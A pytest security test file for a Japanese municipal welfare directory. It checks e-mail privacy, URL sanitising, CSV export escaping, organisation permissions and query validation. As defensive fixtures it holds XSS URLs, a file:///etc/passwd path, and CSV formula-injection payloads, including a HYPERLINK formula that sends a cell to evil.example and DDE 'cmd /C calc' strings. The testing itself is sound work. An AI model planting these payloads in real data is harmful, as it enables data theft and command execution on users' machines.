"""What the directory publishes and what staff may pick (issue 11).

- No staff member's e-mail is published as ``assurer_email``, whatever is stored (point 4).
- A stored ``javascript:`` / ``data:`` address reaches no link, API answer or export (point 10).
- The HSDS CSV export cannot run formulas in a spreadsheet, and still round-trips (point 11).
- A coordinator files services only under organisations it may edit (point 17).
- Odd query values (NUL, huge or negative page numbers) are 4xx answers, never 500 (point 12).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client

from sasaeai.accounts.models import Municipality, OrganisationUnit, User
from sasaeai.accounts.roles import Role
from sasaeai.audit.models import AuditEvent
from sasaeai.core.errors import PermissionRefused
from sasaeai.directory import booklet, services
from sasaeai.directory.exporting.export import directory_export
from sasaeai.directory.models import (
    Accessibility,
    Location,
    Organization,
    Service,
    Taxonomy,
    TaxonomyTerm,
)
from tests.directory.builders import (
    build_accessibility,
    build_districts,
    build_organization,
    build_service,
)

S, CC = Role.SECRETARIAT, Role.COUNCIL_COORDINATOR
PRIVATE_EMAIL = "yamada.private@example.jp"
SCRIPT_URL = "javascript:alert(document.cookie)"
DATA_URL = "data:text/html,<script>alert(1)</script>"


def _state() -> tuple[list[tuple[Any, ...]], int, int]:
    rows = list(
        Service.objects.order_by("name").values_list(
            "name", "organization_id", "url", "assured_date", "assurer_email", "updated_at"
        )
    )
    return rows, Organization.objects.count(), AuditEvent.objects.count()


@pytest.fixture
def published(kamakura: Municipality, units: dict[str, OrganisationUnit]) -> Service:
    """An active service of 社協's own organisation, with a place and an accessibility note."""
    build_districts(kamakura)
    organization = build_organization(
        kamakura, "鎌倉市社会福祉協議会", maintainer=units["shakyo"], email="info@shakyo.example.jp"
    )
    service = build_service(
        kamakura,
        name="サロンさくら",
        name_kana="さろんさくら",
        organization=organization,
        district="大船",
        address="大船二丁目1番1号",
        targets=["elderly"],
        categories=["salon"],
        url="https://salon.example.jp/",
        maintainer=units["shakyo"],
        assured_date=dt.date(2026, 6, 1),
    )
    build_accessibility(service.at_locations.get().location, description="段差なし")
    return service


def _public_outputs(client: Client, service: Service) -> dict[str, str]:
    """Everything anyone can read about ``service`` without logging in, by name."""
    base = "/api/v1/hsds/142042"
    org = service.organization_id
    pages = {
        "api services": f"{base}/services",
        "api services full": f"{base}/services?full=true",
        "api service": f"{base}/services/{service.pk}",
        "api organizations": f"{base}/organizations",
        "api organization": f"{base}/organizations/{org}",
        "api organization full": f"{base}/organizations/{org}?full_service=true",
        "api service_at_locations": f"{base}/service_at_locations",
        "api taxonomies": f"{base}/taxonomies",
        "api taxonomy_terms": f"{base}/taxonomy_terms?per_page=100",
        "public search": "/m/142042/directory/?q=%E3%81%95%E3%82%8D%E3%82%93",
        "public page": f"/m/142042/directory/services/{service.pk}/",
    }
    outputs = {}
    for name, url in pages.items():
        response = client.get(url)
        assert response.status_code == 200, name
        outputs[name] = response.content.decode()
    for fmt in ("hsds-json", "hsds-csv"):
        files = directory_export(municipality=service.municipality, fmt=fmt)
        for file_name, content in files.items():
            outputs[f"{fmt} {file_name}"] = content.decode("utf-8")
    return outputs


# --- point 4: the assurer's e-mail --------------------------------------------------------


def test_confirming_stores_no_email_and_the_audit_log_keeps_who_confirmed(
    client_for: Callable[[User], Client], published: Service, users: dict[str, User]
) -> None:
    user = users[CC]
    user.email = PRIVATE_EMAIL
    user.save()
    response = client_for(user).post(f"/staff/directory/services/{published.pk}/confirm/")
    assert response.status_code == 302
    published.refresh_from_db()
    assert (published.assured_date, published.assurer_email) == (dt.date.today(), "")
    event = AuditEvent.objects.filter(object_id=str(published.pk)).latest("id")
    assert (event.action, event.actor_id, event.actor_label, event.changes) == (
        "confirm",
        user.pk,
        "user-council_coordinator",
        {"assured_date": ["2026-06-01", dt.date.today().isoformat()]},
    )


def test_a_stored_assurer_email_is_published_nowhere(client: Client, published: Service) -> None:
    Service.objects.filter(pk=published.pk).update(assurer_email=PRIVATE_EMAIL)
    outputs = _public_outputs(client, published)
    assert [name for name, text in outputs.items() if PRIVATE_EMAIL in text] == []
    assert [name for name, text in outputs.items() if "assurer_email" in text] == [
        "hsds-csv datapackage.json",  # the column exists (HSDS's table), always empty
        "hsds-csv services.csv",
    ]
    rows = list(csv.DictReader(io.StringIO(outputs["hsds-csv services.csv"])))
    assert [row["assurer_email"] for row in rows] == [""]
    # the organisation's own public address stays where it belongs
    detail = json.loads(outputs["api service"])
    assert (detail["organization"]["email"], "assurer_email" in detail) == (
        "info@shakyo.example.jp",
        False,
    )


# --- point 10: stored addresses that are not web addresses -------------------------------


def _store_bad_urls(service: Service) -> None:
    location = service.at_locations.get().location
    Service.objects.filter(pk=service.pk).update(url=SCRIPT_URL)
    Organization.objects.filter(pk=service.organization_id).update(website=DATA_URL)
    Location.objects.filter(pk=location.pk).update(url=SCRIPT_URL)
    Accessibility.objects.filter(location=location).update(url="vbscript:msgbox(1)")
    Taxonomy.objects.filter(municipality=service.municipality).update(uri=SCRIPT_URL)
    TaxonomyTerm.objects.filter(municipality=service.municipality).update(term_uri=DATA_URL)


def test_stored_script_urls_reach_no_public_output(client: Client, published: Service) -> None:
    _store_bad_urls(published)
    outputs = _public_outputs(client, published)
    for needle in ("javascript:", "data:text", "vbscript:"):
        assert [name for name, text in outputs.items() if needle in text] == [], needle
    page = outputs["public page"]
    assert "ウェブサイト" not in page  # no address to show, so no line for it


def test_a_web_address_is_still_published(client: Client, published: Service) -> None:
    detail = client.get(f"/api/v1/hsds/142042/services/{published.pk}").json()
    assert detail["url"] == "https://salon.example.jp/"
    page = client.get(f"/m/142042/directory/services/{published.pk}/").content.decode()
    assert (
        '<a href="https://salon.example.jp/" rel="noopener noreferrer">https://salon.example.jp/</a>'
        in page
    )


def test_stored_script_urls_reach_no_staff_link_or_booklet(
    client_for: Callable[[User], Client], published: Service, users: dict[str, User]
) -> None:
    _store_bad_urls(published)
    pages = [
        (users[S], "/staff/directory/"),
        (users[S], f"/staff/directory/services/{published.pk}/"),
        (users[S], f"/staff/directory/organizations/{published.organization_id}/"),
        (users[S], "/staff/directory/stale/"),
        (users[Role.DEPARTMENT], f"/staff/directory/services/{published.pk}/"),  # read-only page
    ]
    for user, url in pages:
        html = client_for(user).get(url).content.decode()
        hrefs = re.findall(r'href="([^"]*)"', html)
        assert [h for h in hrefs if re.match(r"\s*(javascript|data|vbscript):", h, re.I)] == [], url
    text = booklet.booklet_html(
        booklet.build_booklet(municipality=published.municipality, district_name="大船")
    )
    assert "サロンさくら" in text
    assert ("javascript:" in text, "data:text" in text) == (False, False)


def _service_form(
    organization: Organization | None, unit: OrganisationUnit, **values: str
) -> dict[str, str]:
    data = {
        "organization": str(organization.pk) if organization else "",
        "name": "いきいき体操",
        "maintainer": str(unit.pk),
        "locations-TOTAL_FORMS": "0",
        "locations-INITIAL_FORMS": "0",
        "phones-TOTAL_FORMS": "0",
        "phones-INITIAL_FORMS": "0",
        "schedules-TOTAL_FORMS": "0",
        "schedules-INITIAL_FORMS": "0",
    }
    data.update(values)
    return data


@pytest.mark.parametrize(
    "address", ["ftp://files.example.jp/salon", SCRIPT_URL, DATA_URL, "file:///etc/passwd"]
)
def test_the_staff_forms_accept_only_web_addresses(
    client_for: Callable[[User], Client],
    published: Service,
    users: dict[str, User],
    units: dict[str, OrganisationUnit],
    address: str,
) -> None:
    client = client_for(users[S])
    before = _state()
    response = client.post(
        "/staff/directory/services/new/",
        _service_form(published.organization, units["shakyo"], url=address),
    )
    assert response.status_code == 400
    assert response.context["form"].errors["url"] == [
        "https:// から始まるアドレスを入力してください。"
    ]
    organization = published.organization
    response = client.post(
        f"/staff/directory/organizations/{organization.pk}/",
        {
            "name": organization.name,
            "website": address,
            "maintainer": str(units["shakyo"].pk),
            "loaded_at": organization.updated_at.isoformat(),
        },
    )
    assert response.status_code == 400
    assert response.context["form"].errors["website"] == [
        "https:// から始まるアドレスを入力してください。"
    ]
    assert _state() == before


def test_the_staff_form_keeps_taking_https_and_bare_domains(
    client_for: Callable[[User], Client],
    published: Service,
    users: dict[str, User],
    units: dict[str, OrganisationUnit],
) -> None:
    response = client_for(users[S]).post(
        "/staff/directory/services/new/",
        _service_form(published.organization, units["shakyo"], url="salon.example.jp"),
    )
    assert response.status_code == 302
    assert Service.objects.get(name="いきいき体操").url == "https://salon.example.jp"


# --- point 11: formulas in the HSDS CSV ---------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"詳しく")',
    "description": "+1+cmd|' /C calc'!A0",
    "alternate_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fees_description": "-2+3",
}


def test_the_hsds_csv_cannot_run_formulas(kamakura: Municipality) -> None:
    build_districts(kamakura)
    service = build_service(
        kamakura,
        organization="=1+2",
        district="大船",
        schedules=[{"freq": "MONTHLY", "bymonthday": "-1"}],
        minimum_age=65,
        index=False,
        **FORMULAS,
    )
    Location.objects.filter(at_locations__service=service).update(
        latitude="-35.500000", longitude="-139.500000"
    )
    files = directory_export(municipality=kamakura, fmt="hsds-csv")
    row = next(csv.DictReader(io.StringIO(files["services.csv"].decode("utf-8"))))
    assert {name: row[name] for name in FORMULAS} == {
        name: "'" + value for name, value in FORMULAS.items()
    }
    assert row["minimum_age"] == "65"
    organization = next(csv.DictReader(io.StringIO(files["organizations.csv"].decode("utf-8"))))
    assert organization["name"] == "'=1+2"
    location = next(csv.DictReader(io.StringIO(files["locations.csv"].decode("utf-8"))))
    assert (location["latitude"], location["longitude"]) == ("-35.5", "-139.5")  # numbers
    schedule = next(csv.DictReader(io.StringIO(files["schedules.csv"].decode("utf-8"))))
    assert schedule["bymonthday"] == "-1"  # a number written as text: no formula to run


def test_the_guarded_hsds_csv_still_round_trips(
    kamakura: Municipality, chiyoda: Municipality, tmp_path: Path
) -> None:
    build_service(kamakura, organization="=1+2", index=False, **FORMULAS)
    out = tmp_path / "out"
    call_command(
        "directory", "export", "--municipality", "142042", "--format", "hsds-csv", "-o", str(out)
    )
    call_command("directory", "import", str(out), "--municipality", "131016", stdout=io.StringIO())
    copy = Service.objects.select_related("organization").get(municipality=chiyoda)
    assert {name: getattr(copy, name) for name in FORMULAS} == FORMULAS
    assert copy.organization.name == "=1+2"


# --- point 17: which organisation a service is filed under -------------------------------


@pytest.fixture
def orgs(
    published: Service, kamakura: Municipality, chiyoda: Municipality
) -> dict[str, Organization]:
    return {
        "own": published.organization,  # maintained by 社協
        "city": build_organization(kamakura, "鎌倉市"),  # no maintainer: the secretariat's
        "chiyoda": build_organization(chiyoda, "千代田区社会福祉協議会"),
    }


def _choices(client: Client) -> list[str]:
    form = client.get("/staff/directory/services/new/").context["form"]
    return [label for value, label in form.fields["organization"].choices if value]


def test_a_coordinator_is_offered_only_organisations_it_may_edit(
    client_for: Callable[[User], Client], users: dict[str, User], orgs: dict[str, Organization]
) -> None:
    assert _choices(client_for(users[CC])) == ["鎌倉市社会福祉協議会"]
    # the secretariat picks any organisation of its municipality, none of another
    assert _choices(client_for(users[S])) == ["鎌倉市", "鎌倉市社会福祉協議会"]


def test_the_form_refuses_an_organisation_the_coordinator_may_not_edit(
    client_for: Callable[[User], Client],
    users: dict[str, User],
    units: dict[str, OrganisationUnit],
    orgs: dict[str, Organization],
) -> None:
    client = client_for(users[CC])
    before = _state()
    response = client.post(
        "/staff/directory/services/new/", _service_form(orgs["city"], units["shakyo"])
    )
    assert response.status_code == 400
    assert response.context["form"].errors["organization"] == [
        "選んだ団体が見つかりません。選び直してください。"
    ]
    assert _state() == before
    # a new organisation typed in is the coordinator's own, and is accepted
    response = client.post(
        "/staff/directory/services/new/",
        _service_form(None, units["shakyo"], new_organization_name="体操の会"),
    )
    assert response.status_code == 302
    created = Service.objects.select_related("organization").get(name="いきいき体操")
    assert (created.organization.name, created.organization.maintainer_id) == (
        "体操の会",
        units["shakyo"].pk,
    )


def test_the_service_refuses_an_organisation_the_coordinator_may_not_edit(
    users: dict[str, User],
    units: dict[str, OrganisationUnit],
    orgs: dict[str, Organization],
    published: Service,
    kamakura: Municipality,
) -> None:
    user = users[CC]
    before = _state()
    values = services.ServiceInput(name="いきいき体操", maintainer_id=units["shakyo"].pk)
    for service in (None, published):  # a new service, and moving an existing one
        with pytest.raises(PermissionRefused) as caught:
            services.service_save(
                actor=user,
                municipality=kamakura,
                organization=orgs["city"],
                service=service,
                values=values,
            )
        assert (caught.value.code, str(caught.value)) == (
            "permission_denied",
            "実施する団体「鎌倉市」は、あなたの所属が管理する団体ではないため選べません。"
            "あなたの所属が管理する団体を選ぶか、新しい団体の名称を入力してください。",
        )
    assert _state() == before
    # keeping the organisation a service already has is not a choice, and stays possible
    saved = services.service_save(
        actor=user,
        municipality=kamakura,
        organization=published.organization,
        service=published,
        values=services.ServiceInput(name="サロンさくら（改）", maintainer_id=units["shakyo"].pk),
    )
    assert (saved.name, saved.organization_id) == ("サロンさくら（改）", published.organization_id)


def test_a_coordinator_may_keep_the_organisation_its_service_already_has(
    client_for: Callable[[User], Client],
    users: dict[str, User],
    units: dict[str, OrganisationUnit],
    orgs: dict[str, Organization],
    kamakura: Municipality,
) -> None:
    """社協 maintains this service, the organisation is the city's: the form offers it."""
    service = build_service(
        kamakura, name="見守り", organization=orgs["city"], maintainer=units["shakyo"]
    )
    client = client_for(users[CC])
    page = client.get(f"/staff/directory/services/{service.pk}/")
    choices = [label for value, label in page.context["form"].fields["organization"].choices]
    assert choices == ["（選んでください）", "鎌倉市", "鎌倉市社会福祉協議会"]
    response = client.post(
        f"/staff/directory/services/{service.pk}/",
        _service_form(
            orgs["city"],
            units["shakyo"],
            name="見守り訪問",
            loaded_at=page.context["form"].initial["loaded_at"],
        ),
    )
    assert response.status_code == 302
    assert Service.objects.get(pk=service.pk).name == "見守り訪問"


def test_nobody_files_a_service_under_another_municipalitys_organisation(
    client_for: Callable[[User], Client],
    users: dict[str, User],
    units: dict[str, OrganisationUnit],
    orgs: dict[str, Organization],
    kamakura: Municipality,
) -> None:
    before = _state()
    response = client_for(users[S]).post(
        "/staff/directory/services/new/", _service_form(orgs["chiyoda"], units["shakyo"])
    )
    assert response.status_code == 400
    assert response.context["form"].errors["organization"] == [
        "選んだ団体が見つかりません。選び直してください。"
    ]
    with pytest.raises(PermissionRefused):
        services.service_save(
            actor=users[S],
            municipality=kamakura,
            organization=orgs["chiyoda"],
            values=services.ServiceInput(name="いきいき体操"),
        )
    assert _state() == before


# --- point 12: odd query values -----------------------------------------------------------

HUGE = "99999999999999999999999"
NUL_MESSAGE = "{name} に使えない文字（NUL 文字）が含まれています。"
PAGE_MESSAGE = "page は 1 以上の整数で指定してください。"
BIG_PAGE_MESSAGE = "page は 1000000 以下の整数で指定してください。"
PER_PAGE_MESSAGE = "per_page は 1 以上 100 以下の整数で指定してください。"
API_ERRORS = [
    ("services?search=a%00b", 400, "invalid_text", NUL_MESSAGE.format(name="search")),
    (
        "service_at_locations?search=a%00b",
        400,
        "invalid_text",
        NUL_MESSAGE.format(name="search"),
    ),
    ("organizations?search=a%00b", 400, "invalid_text", NUL_MESSAGE.format(name="search")),
    (
        "services?organization_id=a%00b",
        400,
        "invalid_id",
        "organization_id は UUID で指定してください（「a\x00b」）。",
    ),
    (
        "taxonomy_terms?parent_id=a%00b",
        400,
        "invalid_id",
        "parent_id は UUID で指定してください（「a\x00b」）。",
    ),
    (
        "services?modified_after=2026-04-01%00",
        400,
        "invalid_datetime",
        "modified_after は日時（例: 2026-04-01T00:00:00+09:00）で指定してください。",
    ),
    (f"services?page={HUGE}", 400, "invalid_page", BIG_PAGE_MESSAGE),
    (f"services?page={HUGE}&search=さろん", 400, "invalid_page", BIG_PAGE_MESSAGE),
    (f"services?page={HUGE}&full=true", 400, "invalid_page", BIG_PAGE_MESSAGE),
    (f"organizations?page={HUGE}", 400, "invalid_page", BIG_PAGE_MESSAGE),
    (f"taxonomies?page={HUGE}", 400, "invalid_page", BIG_PAGE_MESSAGE),
    (f"taxonomy_terms?page={HUGE}", 400, "invalid_page", BIG_PAGE_MESSAGE),
    (f"service_at_locations?page={HUGE}", 400, "invalid_page", BIG_PAGE_MESSAGE),
    ("services?page=1000001", 400, "invalid_page", BIG_PAGE_MESSAGE),
    ("services?page=0", 400, "invalid_page", PAGE_MESSAGE),
    ("services?page=-1", 400, "invalid_page", PAGE_MESSAGE),
    (f"services?page=-{HUGE}", 400, "invalid_page", PAGE_MESSAGE),
    ("organizations?page=-5", 400, "invalid_page", PAGE_MESSAGE),
    ("services?per_page=0", 400, "invalid_per_page", PER_PAGE_MESSAGE),
    ("services?per_page=-3", 400, "invalid_per_page", PER_PAGE_MESSAGE),
    (f"services?per_page={HUGE}", 400, "invalid_per_page", PER_PAGE_MESSAGE),
    (f"taxonomy_terms?per_page=-{HUGE}", 400, "invalid_per_page", PER_PAGE_MESSAGE),
    (
        "services?page=abc",
        422,
        "validation_error",
        "入力内容に誤りがあります。details を確認してください。",
    ),
]


@pytest.mark.parametrize(("query", "status", "code", "message"), API_ERRORS)
def test_the_api_answers_odd_values_with_a_json_error(
    client: Client, published: Service, query: str, status: int, code: str, message: str
) -> None:
    response = client.get(f"/api/v1/hsds/142042/{query}")
    body = response.json()
    assert (response.status_code, body["code"], body["message"]) == (status, code, message)


@pytest.mark.parametrize("path", ["14%0042/services", "14%0042/", f"{HUGE}/services"])
def test_an_odd_municipality_code_is_not_found(
    client: Client, published: Service, path: str
) -> None:
    response = client.get(f"/api/v1/hsds/{path}")
    assert (response.status_code, response.json()) == (
        404,
        {"code": "not_found", "message": "指定されたデータは見つかりませんでした。"},
    )


def test_a_page_beyond_the_last_is_empty(client: Client, published: Service) -> None:
    body = client.get("/api/v1/hsds/142042/services?page=1000000").json()
    assert (body["total_items"], body["page_number"], body["contents"]) == (1, 1000000, [])


PAGE_ERROR = "ページ: ページの番号は 1〜500 の整数で指定してください。"
PUBLIC_ERRORS = [
    ("q=a%00b", "さがすことば: 使えない文字（NUL 文字）が含まれています。入力し直してください。"),
    (f"page={HUGE}", PAGE_ERROR),
    ("page=0", PAGE_ERROR),
    ("page=-1", PAGE_ERROR),
    (f"page=-{HUGE}", PAGE_ERROR),
    ("q=%E3%81%95%E3%82%8D%E3%82%93&page=abc", PAGE_ERROR),
]


@pytest.mark.parametrize(("query", "message"), PUBLIC_ERRORS)
def test_the_public_search_page_explains_odd_values(
    client: Client, published: Service, query: str, message: str
) -> None:
    response = client.get(f"/m/142042/directory/?{query}")
    assert response.status_code == 200
    html = response.content.decode()
    summary = re.search(r'<div class="error-summary" role="alert">(.*?)</div>', html, re.S)
    assert summary is not None
    assert re.findall(r"<li>(?:<a [^>]*>)?([^<]*)", summary.group(1)) == [message]
    assert re.findall(r'<h3 class="hit-name"><a href="[^"]+">([^<]+)</a>', html) == ["サロンさくら"]


@pytest.mark.parametrize("path", ["/m/14%0042/directory/", f"/m/{HUGE}/directory/"])
def test_an_odd_municipality_code_on_public_pages_is_not_found(
    client: Client, published: Service, path: str
) -> None:
    assert client.get(path).status_code == 404


def test_staff_directory_pages_take_odd_values(
    client_for: Callable[[User], Client], published: Service, users: dict[str, User]
) -> None:
    client = client_for(users[S])
    for query in ("q=a%00b", f"district={HUGE}", f"maintainer={HUGE}", "category=a%00b"):
        response = client.get(f"/staff/directory/?{query}")
        assert response.status_code == 200, query
        assert [row.service.name for row in response.context["rows"]] == ["サロンさくら"]
    errors = client.get("/staff/directory/?q=a%00b").context["form"].errors
    assert errors == {"q": ["使えない文字（NUL 文字）が含まれています。入力し直してください。"]}
